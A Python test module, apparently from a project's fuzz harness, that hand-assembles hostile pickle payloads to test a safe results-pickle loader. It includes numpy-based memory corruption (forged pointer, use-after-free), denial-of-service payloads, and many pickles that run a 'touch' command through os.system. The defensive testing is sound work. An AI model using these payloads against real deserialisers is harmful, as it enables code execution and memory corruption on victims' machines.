# Copyright (c) robustdet contributors. All rights reserved.
"""Hostile result pickles, assembled opcode by opcode (never downloaded).

Each names only globals a results pickle may name (numpy's dtype, scalar
and array reconstructors, OrderedDict, sets), yet handed to numpy's own
functions each one corrupts or leaks memory, or exhausts the machine; the
classes are those of issue 30. ``ATTACKS`` maps a class to its payload;
``CODE_EXECUTION`` holds the classic ways of running code; the fuzz
harness (``tools/dev/fuzz_safe_pickle.py``) seeds its corpus with all of
them.
"""
import pickle
import struct

PROTO2 = b'\x80\x02'
PROTO5 = b'\x80\x05'
MARK, TUPLE, TUPLE1, TUPLE2, TUPLE3 = b'(', b't', b'\x85', b'\x86', b'\x87'
REDUCE, BUILD, SETITEM, STOP = b'R', b'b', b's', b'.'
EMPTY_DICT, EMPTY_TUPLE, NONE = b'}', b')', b'N'
TRUE, FALSE = b'\x88', b'\x89'


def glob(module, name):
    """GLOBAL: push ``module.name``."""
    return b'c' + f'{module}\n{name}\n'.encode()


def text(value):
    """BINUNICODE: a str."""
    data = value.encode()
    return b'X' + struct.pack('<I', len(data)) + data


def raw(value):
    """BINBYTES: bytes."""
    return b'B' + struct.pack('<I', len(value)) + value


def integer(value):
    """BININT, or LONG1 beyond 32 bits."""
    if -2**31 <= value < 2**31:
        return b'J' + struct.pack('<i', value)
    data = value.to_bytes((value.bit_length() + 8) // 8, 'little',
                          signed=True)
    return b'\x8a' + bytes([len(data)]) + data


def put(index):
    return b'q' + bytes([index])


def get(index):
    return b'h' + bytes([index])


def dtype(code, order='<', flags=0, elsize=-1):
    """``numpy.dtype(code)`` and numpy's own state for it (or another)."""
    return (glob('numpy', 'dtype') + text(code) + FALSE + TRUE + TUPLE3 +
            REDUCE + MARK + integer(3) + text(order) + NONE * 3 +
            integer(elsize) + integer(-1) + integer(flags) + TUPLE + BUILD)


NP = 'numpy._core'
NDARRAY = glob('numpy', 'ndarray')
RECONSTRUCT = glob(f'{NP}.multiarray', '_reconstruct')
FROMBUFFER = glob(f'{NP}.numeric', '_frombuffer')
SCALAR = glob(f'{NP}.multiarray', 'scalar')


def reconstruct(shape=(0, ), code=b'b'):
    """``_reconstruct(ndarray, shape, code)``: an array not yet BUILT."""
    return (RECONSTRUCT + NDARRAY + MARK + b''.join(map(integer, shape)) +
            TUPLE + raw(code) + TUPLE3 + REDUCE)


def array_state(shape, dtype_ops, data):
    """numpy's array state: (1, shape, dtype, is_fortran, data)."""
    return (MARK + integer(1) + MARK + b''.join(map(integer, shape)) +
            TUPLE + dtype_ops + FALSE + raw(data) + TUPLE)


def frombuffer(buffer_ops, dtype_ops, shape, order='C'):
    """``_frombuffer(buffer, dtype, shape, order)``."""
    return (FROMBUFFER + MARK + buffer_ops + dtype_ops + MARK +
            b''.join(map(integer, shape)) + TUPLE + text(order) + TUPLE +
            REDUCE)


def cell(value_ops):
    """``{'fog': {1: {'coco/bbox_mAP': VALUE}}}``: the value where an
    import reads an AP."""
    return (PROTO2 + EMPTY_DICT + text('fog') + EMPTY_DICT + integer(1) +
            EMPTY_DICT + text('coco/bbox_mAP') + value_ops + SETITEM +
            SETITEM + SETITEM + STOP)


ADDRESS = 0x4141414141414141  # where the forged pointer points

ATTACKS = {
    # An object array (the code argument unchecked), a writable uint64
    # view of its pointer slot (_frombuffer checks only the target dtype),
    # SETITEM through the view writes an address, and float() of the
    # object array dereferences it.
    'forged object pointer':
    PROTO2 + reconstruct((), b'O') + put(0) + frombuffer(
        get(0), dtype('u8'), (1, )) + integer(0) + integer(ADDRESS) +
    SETITEM + b'00' + cell(get(0))[2:],
    # An array and a view of its buffer; a second BUILD frees the buffer
    # the view still points at, which then reads what comes next.
    'use after free':
    PROTO2 + MARK + reconstruct() + put(0) + array_state(
        (16, ), dtype('f8'), b'\x00' * 128) + BUILD + frombuffer(
            get(0), dtype('f8'), (16, )) + get(0) + array_state(
                (1, ), dtype('f8'), b'\x00' * 8) + BUILD + b'0' + TUPLE +
    STOP,
    # An array reconstructed but never BUILT: numpy's heap garbage.
    'uninitialised memory':
    cell(reconstruct((1, ), b'b'))[:-1] + STOP,
    # A dict key of tuples nested 10^6 deep: hashing it overflows the C
    # stack.
    'deep tuple key':
    PROTO2 + EMPTY_DICT + NONE + TUPLE1 * 1_000_000 + integer(1) +
    SETITEM + STOP,
    # frozenset() over a byte-string array that claims 2**62 elements and
    # has no data: runs forever.
    'claimed 2**62 elements':
    PROTO5 + glob('builtins', 'frozenset') + frombuffer(
        raw(b''), dtype('S1', '|', elsize=1), (2**62, )) + TUPLE1 + REDUCE +
    STOP,
    # A 4 GiB object array, allocated lazily.
    '4 GiB object array':
    PROTO2 + reconstruct() + MARK + integer(1) + MARK + integer(2**29) +
    TUPLE + dtype('O8', '|', flags=63) + FALSE + b']' + TUPLE + BUILD +
    STOP,
}


class _Call:
    """Pickles as ``func(*args)`` (REDUCE) of any callable."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def code_execution(marker):
    """The classic ways to run ``touch MARKER`` from a pickle, each as
    (name, bytes): GLOBAL + REDUCE in protocols 0-5, INST, OBJ, NEWOBJ,
    NEWOBJ_EX, STACK_GLOBAL, copyreg, getattr, numpy.load, torch._utils,
    persistent ids and extension codes."""
    import os
    command = f'touch {marker}'
    out = [(f'os.system protocol {p}',
            pickle.dumps(_Call(os.system, command), protocol=p))
           for p in range(6)]
    cmd = text(command)
    out += [
        ('INST', b'(' + cmd + b'ios\nsystem\n.'),
        ('OBJ', PROTO2 + MARK + glob('os', 'system') + cmd + b'o.'),
        ('NEWOBJ', PROTO2 + glob('os', 'system') + cmd + TUPLE1 +
         b'\x81.'),
        ('NEWOBJ_EX', b'\x80\x04' + glob('os', 'system') + cmd + TUPLE1 +
         EMPTY_DICT + b'\x92.'),
        ('STACK_GLOBAL', b'\x80\x04' + text('os') + text('system') +
         b'\x93' + cmd + TUPLE1 + REDUCE + STOP),
        ('copyreg', PROTO2 + glob('copyreg', '_reconstructor') +
         glob('os', 'system') + glob('builtins', 'object') + NONE +
         TUPLE3 + REDUCE + STOP),
        ('getattr', PROTO2 + glob('builtins', 'getattr') +
         glob('collections', 'OrderedDict') + text('__init__') + TUPLE2 +
         REDUCE + STOP),
        ('numpy.load', PROTO2 + glob('numpy', 'load') + text('x.npy') +
         TUPLE1 + REDUCE + STOP),
        ('torch._utils', PROTO2 + glob('torch._utils',
                                       '_rebuild_tensor_v2') + EMPTY_TUPLE +
         REDUCE + STOP),
        ('persistent id', PROTO2 + b'P0\n.'),
        ('binary persistent id', PROTO2 + text('0') + b'Q.'),
        ('extension code', PROTO2 + b'\x82\x01.'),
        ('object dtype from a string', PROTO2 + dtype('O8', '|') + STOP),
        ('object dtype from a list', PROTO2 + glob('numpy', 'dtype') + b']' +
         FALSE + TRUE + TUPLE3 + REDUCE + STOP),
        ('recarray', PROTO2 + RECONSTRUCT + glob('numpy', 'recarray') +
         MARK + integer(0) + TUPLE + raw(b'b') + TUPLE3 + REDUCE + STOP),
    ]
    return out
